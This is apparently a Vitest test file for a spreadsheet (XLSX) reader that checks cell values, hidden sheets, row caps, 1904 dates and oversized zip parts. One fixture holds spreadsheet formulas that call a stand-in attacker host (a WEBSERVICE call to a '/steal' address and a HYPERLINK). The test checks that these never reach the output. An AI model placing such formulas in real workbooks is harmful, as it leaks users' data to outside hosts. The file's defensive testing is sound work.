import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { readXlsx } from '../../../lib/documents/read-xlsx';
import { inflateZipEntry, readZipDirectory } from '../../../lib/documents/read-zip-directory';
import { sliceSheet } from '../../../lib/documents/sheet-to-text';
import { isDateFormat } from '../../../lib/documents/xlsx-xml';

async function workbook(build: (wb: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  build(wb);
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

/** A workbook written by hand: namespace prefixes, inline strings, phonetic runs, a 1904 calendar. */
async function handWritten(sheetXml: string, extra: Record<string, string> = {}): Promise<Uint8Array> {
  const ns = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const zip = new JSZip();
  zip.file(
    '_rels/.rels',
    `<Relationships><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  );
  zip.file(
    'xl/workbook.xml',
    `<x:workbook xmlns:x="${ns}" xmlns:r="${rel}"><x:workbookPr date1904="1"/><x:sheets><x:sheet name="Hand &amp; made" sheetId="1" r:id="rId1"/></x:sheets></x:workbook>`,
  );
  zip.file(
    'xl/_rels/workbook.xml.rels',
    `<Relationships><Relationship Id="rId1" Type="${rel}/worksheet" Target="/xl/worksheets/one.xml"/><Relationship Id="rId2" Type="${rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
  );
  zip.file(
    'xl/sharedStrings.xml',
    `<x:sst xmlns:x="${ns}"><x:si><x:r><x:t>Na</x:t></x:r><x:r><x:t xml:space="preserve">me </x:t></x:r><x:rPh sb="0" eb="1"><x:t>ナマエ</x:t></x:rPh></x:si></x:sst>`,
  );
  zip.file(
    'xl/worksheets/one.xml',
    `<x:worksheet xmlns:x="${ns}"><x:sheetData>${sheetXml}</x:sheetData></x:worksheet>`,
  );
  for (const [name, text] of Object.entries(extra)) zip.file(name, text);
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

describe('readXlsx', () => {
  it('reads shared strings, numbers, booleans, errors, dates by their format and formulas as their cached values', async () => {
    const bytes = await workbook((wb) => {
      const ws = wb.addWorksheet('Q3');
      ws.addRow(['Region', 'Revenue', 'Due', 'Paid', 'Link', 'Quote']);
      ws.addRow([
        'North & "East" <1>',
        1234.5,
        new Date(Date.UTC(2026, 2, 31)),
        true,
        { formula: 'HYPERLINK("https://evil.example/?q=1","click")', result: 'click' },
        { formula: 'WEBSERVICE("https://evil.example/steal")', result: 'cached reply' },
      ]);
      ws.addRow([
        'South',
        { formula: 'B2*2', result: 2469 },
        new Date(Date.UTC(2026, 0, 2, 13, 30)),
        false,
        { error: '#N/A' },
      ]);
      ws.addRow(['Empty formula', { formula: 'NOW()' }]);
      ws.getColumn(3).numFmt = 'dd/mm/yyyy';
      ws.getCell('C3').numFmt = 'yyyy-mm-dd hh:mm';
    });
    const [sheet] = await readXlsx(bytes, 1_000);
    expect(sheet!.name).toBe('Q3');
    expect(sheet!.rows).toEqual([
      ['Region', 'Revenue', 'Due', 'Paid', 'Link', 'Quote'],
      ['North & "East" <1>', '1234.5', '2026-03-31', 'true', 'click', 'cached reply'],
      ['South', '2469', '2026-01-02T13:30:00.000Z', 'false', '#N/A'],
      ['Empty formula'],
    ]);
    expect(JSON.stringify(sheet)).not.toContain('evil.example');
    expect(JSON.stringify(sheet)).not.toContain('HYPERLINK');
  });

  it('keeps columns in place, leaves out hidden sheets and hidden rows, and numbers slices from row 1', async () => {
    const bytes = await workbook((wb) => {
      const ws = wb.addWorksheet('Data');
      ws.getCell('A1').value = 'Id';
      ws.getCell('C1').value = 'Note';
      for (let i = 2; i <= 71; i++) ws.getRow(i).values = [i - 1, undefined, `note ${i - 1}`];
      ws.getRow(5).hidden = true;
      const secret = wb.addWorksheet('Secret');
      secret.state = 'hidden';
      secret.addRow(['do not read']);
      wb.addWorksheet('After').addRow(['shown']);
    });
    const sheets = await readXlsx(bytes, 1_000);
    expect(sheets.map((s) => s.name)).toEqual(['Data', 'After']);
    const data = sheets[0]!;
    expect(data.rows[0]).toEqual(['Id', '', 'Note']);
    expect(data.rows[1]).toEqual(['1', '', 'note 1']);
    expect(data.rows.some((r) => r[2] === 'note 4')).toBe(false);
    expect(data.totalRows).toBe(71);
    const slices = sliceSheet(data);
    expect(slices[0]!.text.split('\n').slice(0, 4)).toEqual([
      'Sheet "Data", rows 2–61 of 71',
      '| Id |  | Note |',
      '| --- | --- | --- |',
      '| 1 |  | note 1 |',
    ]);
    expect(slices[1]!.text.split('\n')[0]).toBe('Sheet "Data", rows 62–70 of 71');
  });

  it('reads inline strings, prefixed elements, phonetic runs left out, and the 1904 calendar', async () => {
    const bytes = await handWritten(
      '<x:row r="1"><x:c r="A1" t="s"><x:v>0</x:v></x:c><x:c r="B1" t="inlineStr"><x:is><x:t>When</x:t></x:is></x:c></x:row>' +
        '<x:row r="2"><x:c r="A2" t="inlineStr"><x:is><x:r><x:t>a &amp;</x:t></x:r><x:r><x:t> b_x000D_</x:t></x:r></x:is></x:c>' +
        '<x:c r="B2" t="str"><x:f>CONCAT("x","y")</x:f><x:v>xy</x:v></x:c></x:row>',
    );
    const [sheet] = await readXlsx(bytes, 1_000);
    expect(sheet).toEqual({
      name: 'Hand & made',
      rows: [
        ['Name ', 'When'],
        ['a & b\r', 'xy'],
      ],
      totalRows: 2,
    });
  });

  it('stops at the row cap but still counts the rows, and stops when asked to', async () => {
    const bytes = await workbook((wb) => {
      const ws = wb.addWorksheet('Big');
      for (let i = 1; i <= 6_000; i++) ws.addRow([i, `r${i}`]);
      wb.addWorksheet('Next').addRow(['not reached']);
    });
    const sheets = await readXlsx(bytes, 100);
    expect(sheets).toHaveLength(1);
    expect(sheets[0]!.rows).toHaveLength(100);
    expect(sheets[0]!.rows.at(-1)).toEqual(['100', 'r100']);
    expect(sheets[0]!.totalRows).toBe(6_000);
    const stop = new AbortController();
    const reading = readXlsx(bytes, 100_000, stop.signal);
    stop.abort(new Error('Stopped'));
    await expect(reading).rejects.toThrow('Stopped');
  });

  it('reads two workbooks at once without mixing them (the scans interleave at their yields)', async () => {
    const book = (tag: string) =>
      workbook((wb) => {
        const ws = wb.addWorksheet(tag);
        for (let i = 1; i <= 11_000; i++) ws.addRow([`${tag}${i}`]);
      });
    const [a, b] = await Promise.all([book('a'), book('b')]);
    const [sa, sb] = await Promise.all([readXlsx(a, 100_000), readXlsx(b, 100_000)]);
    expect(sa![0]!.rows.map((r) => r[0])).toEqual(Array.from({ length: 11_000 }, (_, i) => `a${i + 1}`));
    expect(sb![0]!.rows.map((r) => r[0])).toEqual(Array.from({ length: 11_000 }, (_, i) => `b${i + 1}`));
  });

  it('refuses a part that inflates past the size its directory claims', async () => {
    const zip = new JSZip();
    zip.file('xl/worksheets/sheet1.xml', 'a'.repeat(100_000));
    const bytes = await zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
    const entry = readZipDirectory(bytes)!.find((e) => e.name === 'xl/worksheets/sheet1.xml');
    expect((await inflateZipEntry(bytes, entry!)).length).toBe(100_000);
    await expect(inflateZipEntry(bytes, { ...entry!, uncompressedSize: 1_000 })).rejects.toThrow(
      'part "xl/worksheets/sheet1.xml" inflates past its stated size',
    );
  });

  it('tells date formats from number formats', () => {
    for (const code of ['dd/mm/yyyy', 'yyyy-mm-dd hh:mm', '[$-409]mmm d, yyyy', 'h:mm AM/PM'])
      expect(isDateFormat(code), code).toBe(true);
    for (const code of ['General', '0.00', '#,##0 "days"', '[Red]0.0%', '0.00E+00'])
      expect(isDateFormat(code), code).toBe(false);
  });
});
